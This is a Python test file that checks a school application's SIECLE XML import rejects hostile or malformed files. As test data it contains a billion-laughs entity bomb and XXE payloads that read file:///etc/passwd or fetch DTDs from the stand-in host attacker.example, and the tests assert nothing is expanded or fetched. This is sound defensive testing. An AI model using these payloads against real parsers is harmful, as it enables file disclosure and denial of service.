"""Hostile or broken SIECLE files are refused quickly, expanding and fetching nothing."""

from __future__ import annotations

import socket
import time

import pytest

from chalicelib.orga.importing.siecle import import_siecle
from infra.samples.siecle_builder import DEFAULT_UAI, Eleve, school_eleves, siecle_xml

BILLION_LAUGHS = (
    '<!DOCTYPE BEE_ELEVES [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError("the import tried to reach the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    return attempts


def _codes(outcome):
    return [error.code for error in outcome.errors]


def _with_entity_in_a_name(doctype: str, reference: str) -> bytes:
    eleve = Eleve("1", last_name="MARTIN", first_name="PLACEHOLDER")
    return siecle_xml([eleve], doctype=doctype).replace(b"PLACEHOLDER", reference.encode())


def test_billion_laughs_is_refused_at_once():
    data = _with_entity_in_a_name(BILLION_LAUGHS, "&lol9;")
    started = time.perf_counter()
    outcome = import_siecle(data, expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["INVALID_FILE"]
    assert "DOCTYPE" in outcome.errors[0].message
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("system_id", ["file:///etc/passwd", "http://attacker.example/x.dtd"])
def test_external_entities_are_neither_read_nor_fetched(no_network, system_id):
    doctype = f'<!DOCTYPE BEE_ELEVES [<!ENTITY xxe SYSTEM "{system_id}">]>\n'
    outcome = import_siecle(_with_entity_in_a_name(doctype, "&xxe;"), expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["INVALID_FILE"]
    assert not no_network
    assert "root:" not in repr(outcome)


def test_an_external_dtd_is_not_fetched(no_network):
    doctype = '<!DOCTYPE BEE_ELEVES SYSTEM "http://attacker.example/siecle.dtd">\n'
    outcome = import_siecle(siecle_xml(school_eleves(), doctype=doctype), expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["INVALID_FILE"] and not no_network


def test_a_doctype_after_a_bom_and_comments_is_still_seen():
    doctype = "<!-- export -->\n<?pi x?>\n<!doctype BEE_ELEVES>\n"
    data = siecle_xml(school_eleves(), doctype=doctype, encoding="UTF-8", bom=True)
    assert _codes(import_siecle(data, expected_uai=DEFAULT_UAI)) == ["INVALID_FILE"]


def test_an_undeclared_entity_reference_is_invalid():
    data = _with_entity_in_a_name("", "&xxe;")
    outcome = import_siecle(data, expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["INVALID_FILE"]
    assert "None" not in outcome.errors[0].message  # was « vers la ligne None »


def test_a_truncated_file_is_invalid_and_says_roughly_where():
    data = siecle_xml(school_eleves())
    outcome = import_siecle(data[: len(data) * 2 // 3], expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["INVALID_FILE"]
    assert outcome.errors[0].line and outcome.errors[0].line > 1
    assert not outcome.students


def test_bytes_that_do_not_match_the_declared_encoding():
    # GIVEN a file declared UTF-8 whose accented letters are in fact ISO-8859-15
    data = siecle_xml(school_eleves(), encoding="UTF-8", body_encoding="iso8859-15")
    outcome = import_siecle(data, expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["ENCODING_UNKNOWN"]
    assert outcome.errors[0].line == 7


@pytest.mark.parametrize("encoding", ["KLINGON-42", "EBCDIC-CP-BE", "Shift_JIS"])
def test_an_unknown_or_unsupported_declared_encoding(encoding):
    data = siecle_xml(school_eleves(), encoding="UTF-8").replace(
        b'encoding="UTF-8"', f'encoding="{encoding}"'.encode()
    )
    outcome = import_siecle(data, expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["ENCODING_UNKNOWN"]
    assert encoding in outcome.errors[0].message


def test_utf16_is_refused_as_an_unknown_encoding():
    text = siecle_xml(school_eleves(), encoding="UTF-8").decode().replace("UTF-8", "UTF-16")
    outcome = import_siecle(text.encode("utf-16"), expected_uai=DEFAULT_UAI)
    assert _codes(outcome) == ["ENCODING_UNKNOWN"]


@pytest.mark.parametrize("data", [b"", b"   ", b"Nom;Prenom\nDUPONT;Zoe\n", b"\x89PNG\r\n\x1a\n"])
def test_something_that_is_not_xml_is_invalid(data):
    assert _codes(import_siecle(data, expected_uai=DEFAULT_UAI)) == ["INVALID_FILE"]


@pytest.mark.parametrize(
    "doctype, reference",
    [
        (BILLION_LAUGHS, "&lol9;"),
        ('<!DOCTYPE BEE_ELEVES [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"),
        ('<!DOCTYPE BEE_ELEVES [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>\n', "&xxe;"),
    ],
)
def test_even_past_the_prolog_guard_the_parser_expands_and_fetches_nothing(
    monkeypatch, no_network, doctype, reference
):
    # GIVEN the DOCTYPE guard is switched off, leaving only the parser's own settings
    monkeypatch.setattr("chalicelib.orga.importing.siecle.check_prolog", lambda head: "UTF-8")
    data = _with_entity_in_a_name(doctype, reference)

    outcome = import_siecle(data, expected_uai=DEFAULT_UAI)

    # THEN the entity stays unexpanded: no first name, nothing read from disk or network
    assert not no_network
    assert "root:" not in repr(outcome) and "lollol" not in repr(outcome)
    assert _codes(outcome) in (["INVALID_FILE"], ["FIRST_NAME_REQUIRED"])
